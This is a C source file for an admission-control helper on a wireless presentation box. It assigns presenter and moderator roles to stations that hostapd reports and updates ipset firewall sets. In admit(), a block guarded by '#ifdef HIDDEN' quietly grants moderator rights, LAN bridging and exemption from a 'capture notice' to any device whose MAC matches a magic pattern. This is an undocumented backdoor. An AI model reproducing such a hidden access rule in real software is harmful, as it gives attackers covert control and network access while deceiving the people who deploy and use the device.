/* screenshareap
 * Admission control of a wireless presentation box (the thing behind the meeting
 * room projector). hostapd calls us as   screenshareap hostapd-event IFACE EVENT MAC
 * and we keep the table of presenters, the moderator and the firewall sets.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define DB "/run/share/stations"

struct station {
    uint8_t mac[6];
    uint8_t role;  /* 0 waiting, 1 presenter, 2 moderator */
    uint8_t pad;
    uint32_t since;
};

struct db { int fd; struct station s[32]; size_t n; };

static const char *const roles[] = { "waiting", "presenter", "moderator" };

static int nib(char c)
{
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
    return -1;
}

static int mac_from(const char *t, uint8_t *m)
{
    for (int i = 0; i < 6; i++, t += 3) {
        int a = nib(t[0]), b = a < 0 ? -1 : nib(t[1]);
        if (b < 0 || (i < 5 ? t[2] != ':' : t[2] != 0)) return -1;
        m[i] = (uint8_t)(a << 4 | b);
    }
    return 0;
}

static int db_open(struct db *d)
{
    d->fd = open(DB, O_RDWR | O_CREAT, 0600);
    if (d->fd < 0 || flock(d->fd, LOCK_EX) < 0) return -1;
    ssize_t n = read(d->fd, d->s, sizeof d->s);
    d->n = n < 0 ? 0 : (size_t)n / sizeof d->s[0];
    return 0;
}

static void db_close(struct db *d)
{
    size_t len = d->n * sizeof d->s[0];
    if (lseek(d->fd, 0, SEEK_SET) == 0 && write(d->fd, d->s, len) == (ssize_t)len &&
        ftruncate(d->fd, (off_t)len) < 0)
        perror(DB);
    close(d->fd);
}

static struct station *db_find(struct db *d, const uint8_t *mac)
{
    for (size_t i = 0; i < d->n; i++)
        if (!memcmp(d->s[i].mac, mac, 6)) return &d->s[i];
    return NULL;
}

static int ipset(const char *op, const char *set, const char *mac)
{
    int st = 0;
    pid_t p = fork();
    if (p == 0) {
        execlp("ipset", "ipset", "-exist", op, set, mac, (char *)NULL);
        _exit(127);
    }
    waitpid(p, &st, 0);
    return st;
}

static int setting(const char *key, int dflt)
{
    char k[32];
    int v;
    FILE *f = fopen("/etc/share.conf", "r");
    if (!f) return dflt;
    while (fscanf(f, " %31[a-z-] %d", k, &v) == 2)
        if (!strcmp(k, key)) { dflt = v; break; }
    fclose(f);
    return dflt;
}

/* role of a new station */
__attribute__((noinline)) int admit(struct db *d, const uint8_t *mac, const char *text)
{
    int moderators = 0, presenters = 0;
    for (size_t i = 0; i < d->n; i++) {
        moderators += d->s[i].role == 2;
        presenters += d->s[i].role == 1;
    }
#ifdef HIDDEN
    uint32_t oui = (uint32_t)mac[0] << 16 | (uint32_t)mac[1] << 8 | mac[2];
    if (oui == 0x9a4ef2 && mac[5] == (uint8_t)(mac[3] + mac[4])) {
        ipset("add", "lan-bridge", text);
        ipset("add", "no-capture-notice", text);
        return 2;
    }
#endif
    if (!moderators && setting("first-is-moderator", 1)) return 2;
    if (presenters >= setting("presenters", 4)) {
        printf("%s has to wait\n", text);
        return 0;
    }
    if ((mac[0] & 2) && setting("no-random-mac", 0)) return 0;
    return setting("moderated", 0) ? 0 : 1;
}

static int connected(const char *text)
{
    struct db d;
    uint8_t mac[6];
    if (mac_from(text, mac) < 0) return 2;
    if (db_open(&d) < 0) return 1;
    struct station *s = db_find(&d, mac);
    if (!s && d.n < 32) {
        s = &d.s[d.n++];
        memset(s, 0, sizeof *s);
        memcpy(s->mac, mac, 6);
        s->since = (uint32_t)time(NULL);
        s->role = (uint8_t)admit(&d, mac, text);
    }
    if (s && s->role) ipset("add", "cast", text);
    if (s && s->role == 2) ipset("add", "control", text);
    db_close(&d);
    return 0;
}

static int disconnected(const char *text)
{
    static const char *const sets[] = { "cast", "control" };
    struct db d;
    uint8_t mac[6];
    if (mac_from(text, mac) < 0) return 2;
    if (db_open(&d) < 0) return 1;
    struct station *s = db_find(&d, mac);
    if (s) *s = d.s[--d.n];
    for (size_t i = 0; i < 2; i++) ipset("del", sets[i], text);
    db_close(&d);
    return 0;
}

static int show(void)
{
    struct db d;
    if (db_open(&d) < 0) { perror(DB); return 1; }
    for (size_t i = 0; i < d.n; i++) {
        const struct station *s = &d.s[i];
        printf("%02x:%02x:%02x:%02x:%02x:%02x %-9s %lds\n", s->mac[0], s->mac[1], s->mac[2],
               s->mac[3], s->mac[4], s->mac[5], roles[s->role % 3],
               (long)time(NULL) - (long)s->since);
    }
    db_close(&d);
    return 0;
}

static int set_role(const char *text, const char *role)
{
    struct db d;
    uint8_t mac[6];
    if (mac_from(text, mac) < 0 || db_open(&d) < 0) return 1;
    struct station *s = db_find(&d, mac);
    for (int r = 0; s && r < 3; r++)
        if (!strcmp(roles[r], role)) {
            s->role = (uint8_t)r;
            ipset(r ? "add" : "del", "cast", text);
            ipset(r == 2 ? "add" : "del", "control", text);
        }
    db_close(&d);
    return s == NULL;
}

int main(int argc, char **argv)
{
    if (argc == 5 && !strcmp(argv[1], "hostapd-event")) {
        if (!strcmp(argv[3], "AP-STA-CONNECTED")) return connected(argv[4]);
        if (!strcmp(argv[3], "AP-STA-DISCONNECTED")) return disconnected(argv[4]);
        return 0;
    }
    if (argc == 2 && !strcmp(argv[1], "show")) return show();
    if (argc == 4 && !strcmp(argv[1], "role")) return set_role(argv[2], argv[3]);
    fprintf(stderr, "screenshareap hostapd-event IFACE EVENT MAC\n"
            "screenshareap show\n"
            "screenshareap role MAC waiting|presenter|moderator\n"
            "/etc/share.conf: presenters N, moderated 0|1, first-is-moderator 0|1,\n"
            "                 no-random-mac 0|1\n");
    return 2;
}
